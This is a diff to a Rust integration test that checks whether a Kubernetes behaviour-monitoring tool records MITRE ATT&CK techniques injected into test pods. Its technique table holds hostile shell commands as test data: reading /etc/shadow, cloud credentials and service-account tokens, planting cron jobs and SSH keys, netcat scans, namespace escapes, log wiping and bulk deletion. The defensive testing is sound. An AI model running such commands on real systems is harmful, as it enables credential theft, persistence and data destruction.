@@ -50,11 +50,8 @@ enum Via {
 /// What a technique must leave behind.
 #[derive(Clone, Copy)]
 enum Expect {
-    /// A record of this rule whose subject starts with one of these.
-    Record {
-        rule: &'static str,
-        subjects: &'static [&'static str],
-    },
+    /// A record of one of these rules whose subject starts with one of its subjects.
+    Record(&'static [(&'static str, &'static [&'static str])]),
     /// Not caught for its own reason; says why the kernel view does not show it.
     Miss(&'static str),
 }
@@ -86,8 +83,11 @@ const fn injected(
     }
 }
 
-const fn record(rule: &'static str, subjects: &'static [&'static str]) -> Expect {
-    Expect::Record { rule, subjects }
+/// A record of `rule` whose subject starts with one of `subjects`.
+macro_rules! record {
+    ($rule:expr, $subjects:expr) => {
+        Expect::Record(&[($rule, $subjects)])
+    };
 }
 
 const PROCESSES: &str = "profile/processes";
@@ -99,44 +99,47 @@ const EGRESS: &str = "profile/egress";
 #[rustfmt::skip]
 const TECHNIQUES: &[Technique] = &[
     // Execution.
-    injected("T1059.004", "Unix shell other than the learned one", 0, "ash -c 'echo hi'", record(PROCESSES, &["/bin/ash"])),
-    injected("T1059", "Interpreter the shop never runs (awk)", 0, "awk 'BEGIN { print 1 }'", record(PROCESSES, &["/bin/awk"])),
-    injected("T1105", "Ingress tool transfer (wget)", 0, "wget -q -T 3 -O /tmp/tool http://{peer}:8080/index.html", record(PROCESSES, &["/bin/wget"])),
-    injected("T1204.002", "Downloaded binary run from /tmp", 0, "cp /bin/busybox /tmp/tool; /tmp/tool true", record(PROCESSES, &["/tmp/tool"])),
-    injected("T1620", "Fileless execution from a memfd", 0, "/usr/local/bin/attack memfd-exec", record(PROCESSES, &["/dev/fd/", "memfd:"])),
-    injected("T1036.005", "Masquerading: a learned name in another place", 0, "cp /bin/busybox /tmp/httpd; /tmp/httpd true", record(PROCESSES, &["/tmp/httpd"])),
-    injected("T1027", "Execution from /dev/shm", 0, "cp /bin/busybox /dev/shm/k; /dev/shm/k true", record(PROCESSES, &["/dev/shm/k"])),
-    Technique { id: "T1609", name: "Container administration command (kubectl exec)", replica: 0, via: Via::KubectlExec(&["ls", "/"]), expect: record(PROCESSES, &["/bin/ls"]) },
+    injected("T1059.004", "Unix shell other than the learned one", 0, "ash -c 'echo hi'", record!(PROCESSES, &["/bin/ash", "/proc/self/exe [ash "])),
+    injected("T1059", "Interpreter the shop never runs (awk)", 0, "awk 'BEGIN { print 1 }'", record!(PROCESSES, &["/bin/awk", "/proc/self/exe [awk "])),
+    injected("T1105", "Ingress tool transfer (wget)", 0, "wget -q -T 3 -O /tmp/tool http://{peer}:8080/index.html", record!(PROCESSES, &["/bin/wget", "/proc/self/exe [wget "])),
+    injected("T1204.002", "Downloaded binary run from /tmp", 0, "cp /bin/busybox /tmp/tool; /tmp/tool true", record!(PROCESSES, &["/tmp/tool"])),
+    injected("T1620", "Fileless execution from a memfd", 0, "/usr/local/bin/attack memfd-exec", record!(PROCESSES, &["/dev/fd/", "memfd:"])),
+    injected("T1036.005", "Masquerading: a learned name in another place", 0, "cp /bin/busybox /tmp/httpd; /tmp/httpd true", record!(PROCESSES, &["/tmp/httpd"])),
+    injected("T1027", "Execution from /dev/shm", 0, "cp /bin/busybox /dev/shm/k; /dev/shm/k true",
+        // /dev/shm is mounted noexec, so the run itself fails before it starts: what shows
+        // is the binary written there (or, on a runtime that allows it, its run).
+        Expect::Record(&[(PROCESSES, &["/dev/shm/k"]), (FILES, &["/dev/shm/k ("])])),
+    Technique { id: "T1609", name: "Container administration command (kubectl exec)", replica: 0, via: Via::KubectlExec(&["ls", "/"]), expect: record!(PROCESSES, &["/bin/ls"]) },
     // Persistence.
-    injected("T1053.003", "Cron job", 1, "echo '* * * * * /tmp/tool' > /etc/crontabs/app", record(FILES, &["/etc/crontabs/app "])),
-    injected("T1546.004", "Shell configuration modification", 1, "echo 'wget x' >> /etc/profile", record(FILES, &["/etc/profile "])),
-    injected("T1554", "Binary planted in a binary directory", 1, "echo x > /usr/local/bin/backdoor", record(FILES, &["/usr/local/bin/backdoor "])),
-    injected("T1098.004", "SSH authorized keys", 1, "mkdir -p /home/app/.ssh; echo key >> /home/app/.ssh/authorized_keys", record(FILES, &["/home/app/.ssh/authorized_keys "])),
+    injected("T1053.003", "Cron job", 1, "echo '* * * * * /tmp/tool' > /etc/crontabs/app", record!(FILES, &["/etc/crontabs/app "])),
+    injected("T1546.004", "Shell configuration modification", 1, "echo 'wget x' >> /etc/profile", record!(FILES, &["/etc/profile "])),
+    injected("T1554", "Binary planted in a binary directory", 1, "echo x > /usr/local/bin/backdoor", record!(FILES, &["/usr/local/bin/backdoor "])),
+    injected("T1098.004", "SSH authorized keys", 1, "mkdir -p /home/app/.ssh; echo key >> /home/app/.ssh/authorized_keys", record!(FILES, &["/home/app/.ssh/authorized_keys "])),
     // Credential access.
-    injected("T1003.008", "/etc/shadow", 1, "cat /etc/shadow", record(FILES, &["/etc/shadow "])),
-    injected("T1528", "Service account token", 1, "cat /var/run/secrets/kubernetes.io/serviceaccount/token", record(FILES, &["/var/run/secrets/kubernetes.io/serviceaccount/token "])),
-    injected("T1552.001", "Cloud credentials in files", 1, "cat /home/app/.aws/credentials", record(FILES, &["/home/app/.aws/credentials "])),
-    injected("T1552.004", "Private keys", 1, "cat /etc/ssl/private/shop.key", record(FILES, &["/etc/ssl/private/shop.key "])),
-    injected("T1003.007", "Process environment (/proc/*/environ)", 1, "cat /proc/1/environ", record(FILES, &["/proc/1/environ "])),
-    injected("T1552", "Kernel keyring", 1, "/usr/local/bin/attack keyctl", record(SYSCALLS, &["keyctl"])),
+    injected("T1003.008", "/etc/shadow", 1, "cat /etc/shadow", record!(FILES, &["/etc/shadow "])),
+    injected("T1528", "Service account token", 1, "cat /var/run/secrets/kubernetes.io/serviceaccount/token", record!(FILES, &["/var/run/secrets/kubernetes.io/serviceaccount/token "])),
+    injected("T1552.001", "Cloud credentials in files", 1, "cat /home/app/.aws/credentials", record!(FILES, &["/home/app/.aws/credentials "])),
+    injected("T1552.004", "Private keys", 1, "cat /etc/ssl/private/shop.key", record!(FILES, &["/etc/ssl/private/shop.key "])),
+    injected("T1003.007", "Process environment (/proc/*/environ)", 1, "cat /proc/1/environ", record!(FILES, &["/proc/1/environ "])),
+    injected("T1552", "Kernel keyring", 1, "/usr/local/bin/attack keyctl", record!(SYSCALLS, &["keyctl"])),
     // Privilege escalation.
-    injected("T1548.001", "Set-user-ID program", 2, "/usr/local/bin/shop-admin keyctl", record(PROCESSES, &["/usr/local/bin/shop-admin as uid 0"])),
-    injected("T1611", "Escape: new namespaces (unshare)", 2, "unshare -r -m true", record(SYSCALLS, &["unshare"])),
-    injected("T1611", "Escape: enter the host's namespaces (setns)", 2, "nsenter -t 1 -n true", record(SYSCALLS, &["setns"])),
-    injected("T1611", "Escape: mount", 2, "mount -t tmpfs none /tmp", record(SYSCALLS, &["mount"])),
-    injected("T1055.008", "Process injection (ptrace)", 2, "/usr/local/bin/attack ptrace 1", record(SYSCALLS, &["ptrace"])),
+    injected("T1548.001", "Set-user-ID program", 2, "/usr/local/bin/shop-admin keyctl", record!(PROCESSES, &["/usr/local/bin/shop-admin as uid 0"])),
+    injected("T1611", "Escape: new namespaces (unshare)", 2, "unshare -r -m true", record!(SYSCALLS, &["unshare"])),
+    injected("T1611", "Escape: enter the host's namespaces (setns)", 2, "nsenter -t 1 -n true", record!(SYSCALLS, &["setns"])),
+    injected("T1611", "Escape: mount", 2, "mount -t tmpfs none /tmp", record!(SYSCALLS, &["mount"])),
+    injected("T1055.008", "Process injection (ptrace)", 2, "/usr/local/bin/attack ptrace 1", record!(SYSCALLS, &["ptrace"])),
     // Discovery and lateral movement.
-    injected("T1613", "Container and resource discovery (the API server)", 2, "wget -q -T 3 -O /dev/null https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api", record(EGRESS, &["{apiserver}:"])),
-    injected("T1046", "Network service discovery (port scan)", 2, "nc -z -w 1 {peer} 22", record(EGRESS, &["{peer}:22/"])),
-    injected("T1571", "Lateral movement on a non-standard port", 2, "nc -w 1 {peer} 4444 </dev/null", record(EGRESS, &["{peer}:4444/"])),
+    injected("T1613", "Container and resource discovery (the API server)", 2, "wget -q -T 3 -O /dev/null https://{apiserver}:443/api", record!(EGRESS, &["{apiserver}:"])),
+    injected("T1046", "Network service discovery (port scan)", 2, "nc -w 1 {peer} 22 </dev/null", record!(EGRESS, &["{peer}:22/"])),
+    injected("T1571", "Lateral movement on a non-standard port", 2, "nc -w 1 {peer} 4444 </dev/null", record!(EGRESS, &["{peer}:4444/"])),
     injected("T1040", "Packet socket for sniffing", 2, "ping -c 1 -W 1 {peer}", Expect::Miss("herdwatch judges the socket syscall, not its family: a packet or raw socket opened by a learned process is not its own violation (the ping binary is caught as a new process)")),
     // Defense evasion.
-    injected("T1070.002", "Clearing the shop's log", 2, ": > /var/log/shop/access.log", record(FILES, &["/var/log/shop/access.log (write, create, truncate", "/var/log/shop/access.log (truncate"])),
-    injected("T1070.003", "Deleting shell history", 2, "rm -f /home/app/.ash_history", record(SYSCALLS, &["unlink"])),
-    injected("T1222", "Hard link over a sensitive file", 1, "ln /etc/shadow /tmp/s", record(SYSCALLS, &["link"])),
-    injected("T1222", "Symbolic link to a sensitive file", 1, "ln -s /etc/shadow /tmp/t", record(SYSCALLS, &["symlink"])),
+    injected("T1070.002", "Clearing the shop's log", 2, ": > /var/log/shop/access.log", record!(FILES, &["/var/log/shop/access.log (write+create+truncate"])),
+    injected("T1070.003", "Deleting shell history", 2, "rm -f /home/app/.ash_history", record!(SYSCALLS, &["unlink"])),
+    injected("T1222", "Hard link over a sensitive file", 1, "ln /etc/shadow /tmp/s", record!(SYSCALLS, &["link"])),
+    injected("T1222", "Symbolic link to a sensitive file", 1, "ln -s /etc/shadow /tmp/t", record!(SYSCALLS, &["symlink"])),
     // Impact.
-    injected("T1485", "Bulk deletion", 0, "rm -rf /www/data", record(SYSCALLS, &["unlink", "rmdir"])),
+    injected("T1485", "Bulk deletion", 0, "rm -rf /www/data", record!(SYSCALLS, &["unlink", "rmdir"])),
 ];
 
 /// The IPs of a ready shop's pods, in name order.
@@ -181,6 +184,17 @@ async fn attack_techniques_are_caught_and_a_normal_day_raises_no_alarm() {
         for name in [SHOP, CALM] {
             let p = wait_enforcing(&env, &ns, name).await;
             step(format!("{name} learned: {}", describe_profile(&p)));
+            let a = &p.spec.allowed;
+            let processes: Vec<String> = a
+                .processes
+                .iter()
+                .map(|e| format!("{} {:?} uid {:?}", e.exe, e.argv.as_deref().unwrap_or_default(), e.uid))
+                .collect();
+            let files: Vec<String> = a.files.iter().map(|f| format!("{} {:?}", f.pattern(), f.access)).collect();
+            let syscalls: Vec<&str> = a.syscalls.iter().map(|s| s.name.as_str()).collect();
+            step(format!("  {name} processes: {}", processes.join("; ")));
+            step(format!("  {name} files: {}", files.join("; ")));
+            step(format!("  {name} syscalls: {}", syscalls.join(" ")));
         }
         let learned = violations(&env, &ns).await.expect("listing records");
         assert!(
@@ -288,15 +302,23 @@ async fn run_attacks(env: &Env, ns: &str, pods: Vec<Pod>) -> Vec<Row> {
                 .map(|v| format!("{} {}", v.spec.rule, v.spec.subject))
                 .collect();
             let (caught, expected_miss, how) = match (t.expect, found) {
-                (Expect::Record { .. }, Some(v)) => (true, false, format!("{} {}", v.spec.rule, v.spec.subject)),
-                (Expect::Record { rule, subjects }, None) => (
+                (Expect::Record(_), Some(v)) => {
+                    (true, false, format!("{} {}", v.spec.rule, v.spec.subject))
+                }
+                (Expect::Record(alternatives), None) => (
                     false,
                     false,
-                    format!("no {rule} record starting with {subjects:?}; the pod's records: {on_pod:?}"),
+                    format!("no record of {alternatives:?}; the pod's records: {on_pod:?}"),
                 ),
                 (Expect::Miss(why), _) => (false, true, why.to_owned()),
             };
-            Row { id: t.id, name: t.name, caught, expected_miss, how }
+            Row {
+                id: t.id,
+                name: t.name,
+                caught,
+                expected_miss,
+                how,
+            }
         })
         .collect()
 }
@@ -308,15 +330,17 @@ fn find<'a>(
     pods: &[String],
     fill: &impl Fn(&str, usize) -> String,
 ) -> Option<&'a BehaviorViolation> {
-    let Expect::Record { rule, subjects } = t.expect else {
+    let Expect::Record(alternatives) = t.expect else {
         return None;
     };
     records.iter().find(|v| {
         v.spec.pod == pods[t.replica]
-            && v.spec.rule == rule
-            && subjects
-                .iter()
-                .any(|s| v.spec.subject.starts_with(&fill(s, t.replica)))
+            && alternatives.iter().any(|(rule, subjects)| {
+                v.spec.rule == *rule
+                    && subjects
+                        .iter()
+                        .any(|s| v.spec.subject.starts_with(&fill(s, t.replica)))
+            })
     })
 }
 
